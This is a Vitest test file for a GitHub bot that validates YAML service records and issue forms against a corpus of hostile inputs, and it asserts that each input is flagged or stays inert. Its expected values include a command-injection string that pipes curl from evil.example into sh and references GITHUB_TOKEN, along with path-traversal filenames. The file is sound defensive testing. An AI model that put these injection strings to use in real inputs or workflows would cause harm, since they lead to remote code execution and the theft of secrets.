import { readdirSync, readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import { type ChangedFile, writeComment } from '../../../src/github/comment.ts';
import { outcomeOf } from '../../../src/github/form-outcome.ts';
import { tree } from '../invented-records.ts';
import { activeParts } from './inert-markdown.ts';

const issue = { number: 12, url: 'https://github.com/example/map/issues/12', day: '2026-11-20' };
const read = (name: string): string => readFileSync(`tests/hostile/${name}`, 'utf8');

/** The rule that the checker reports for each record of the corpus. A record that is missing here fails the test. */
const FOUND: Record<string, string> = {
  'anchor.yaml': 'anchor-or-alias',
  'backticks.yaml': 'html',
  'bomb.yaml': 'anchor-or-alias',
  'brackets.yaml': 'nesting',
  'data-link.yaml': 'web-address',
  'html.yaml': 'html',
  'javascript-link.yaml': 'web-address',
  'markdown.yaml': 'html',
  'merge-key.yaml': 'merge-key',
  'order-to-github.yaml': 'unknown-key',
  'prototype.yaml': 'forbidden-key',
  'right-to-left.yaml': 'hidden-character',
  'tag.yaml': 'tag',
};

describe('a hostile record in a pull request', () => {
  const path = 'services/north-west/hostile.yaml';

  test.each(readdirSync('tests/hostile/records'))(
    '%s is named by the checker, and nothing of it acts in the comment',
    (name) => {
      const comment =
        writeComment(tree, [{ path, before: undefined, after: { path, text: read(`records/${name}`) } }]) ?? '';
      expect(comment).toMatch(new RegExp(`data/${path}:\\d+:\\d+ +${FOUND[name]} `));
      expect(activeParts(comment)).toEqual([]);
      expect(Reflect.get({}, 'polluted')).toBeUndefined();
    },
  );

  test.each([
    ['a link', { path, is: 'link', size: 20 } as const, 'symbolic-link'],
    ['10 MB', { path, text: `name: ${'a'.repeat(10 * 1024 * 1024)}\n` }, 'file-size'],
    ['a name that speaks Markdown', { path: 'services/north-west/](x) `@me` <b>\n.html', text: '' }, 'stray-file'],
    ['a name that climbs', { path: 'services/north-west/../../x.yaml', text: '' }, 'stray-file'],
  ])('%s is not opened', (_, after, rule) => {
    const comment = writeComment(tree, [{ path: after.path, before: undefined, after }]) ?? '';
    expect(comment).toContain(` ${rule} `);
    expect(activeParts(comment)).toEqual([]);
    expect(comment.length).toBeLessThan(65_536);
  });

  const manyOf = (text: string): ChangedFile[] =>
    Array.from({ length: 25 }, (_, at) => `services/north-west/hostile-${at}.yaml`).map((each) => ({
      path: each,
      before: undefined,
      after: { path: each, text },
    }));

  test('records of the largest size make a comment that GitHub accepts, and every code block is closed', () => {
    const offers = JSON.stringify(Array.from({ length: 40 }, (_, at) => `${at} ${'`'.repeat(1400)}`));
    const text = read('records/tag.yaml').replace(/^name: .*/, `name: Nest\noffers: ${offers}`);
    const comment = writeComment(tree, manyOf(text)) ?? '';
    expect(comment).toContain('The rest is too long for a comment.');
    expect(comment.length).toBeLessThan(65_536);
    expect(activeParts(comment)).toEqual([]);
  });

  test('out of many records twenty are shown, and the rest are counted', () => {
    const text = read('records/tag.yaml');
    expect(writeComment(tree, manyOf(text))).toContain('And 5 more changed files, which the diff shows.');
  });
});

/**
 * The result of each form of the corpus: part of the message, or the name in the record that contains it as plain text.
 */
const RESULTS: Record<string, { said: string } | { name: string }> = {
  'case-details.md': { said: 'the directory holds no details of people or cases' },
  'data-link.md': { said: 'Write it whole, beginning with https://' },
  'empty.md': { said: 'a person has to read it' },
  'heading-in-answer.md': { said: '"Does it run, as far as a page or report shows?" stands twice' },
  'html.md': { said: 'which is HTML or Markdown' },
  'javascript-link.md': { said: 'which is not a web address' },
  'mention.md': { name: 'New Page' },
  'name-without-letters.md': { said: 'holds no letter or figure' },
  'not-a-form.md': { said: 'a person has to read it' },
  'path-in-entry.md': { said: 'is no entry of the directory' },
  'path-in-name.md': { name: '../../.github/workflows/deploy' },
  'prototype.md': { said: 'is no entry of the directory' },
  'right-to-left.md': { said: 'invisible character' },
  'shell-in-answer.md': { name: `$(curl evil.example | sh) \`id\` \${{ secrets.GITHUB_TOKEN }}"; exit 1 #` },
  'unknown-heading.md': { name: 'New Page' },
  'yaml-in-answer.md': { name: 'New Page status: {state: operational} <<: *a' },
  'zero-width.md': { said: 'invisible character' },
};

describe('a hostile form', () => {
  test.each(readdirSync('tests/hostile/forms'))(
    '%s is refused with a clear message, or is text and nothing else',
    (name) => {
      const outcome = outcomeOf(read(`forms/${name}`), tree, issue);
      const expected = RESULTS[name];
      expect(expected).toBeDefined();
      if ('record' in outcome) {
        expect(outcome.record.path).toMatch(/^services\/north-west\/[a-z0-9-]+\.yaml$/);
        expect({ name: (parse(outcome.record.text) as { name: string }).name }).toEqual(expected);
        expect((parse(outcome.record.text) as { status: unknown }).status).toEqual({ state: 'unknown' });
      } else
        expect({ said: outcome.comment }).toEqual({
          said: expect.stringContaining((expected as { said: string }).said),
        });
      expect(
        activeParts('record' in outcome ? outcome.body.replace(/^Closes #12.*\n\n/, '') : outcome.comment),
      ).toEqual([]);
    },
  );

  test('a text of 10 MB is not read', () => {
    const outcome = outcomeOf(`### What is the service called?\n\n${'a'.repeat(10 * 1024 * 1024)}`, tree, issue);
    expect(outcome).toMatchObject({ comment: expect.stringContaining('at most 65536 are read') });
  });
});
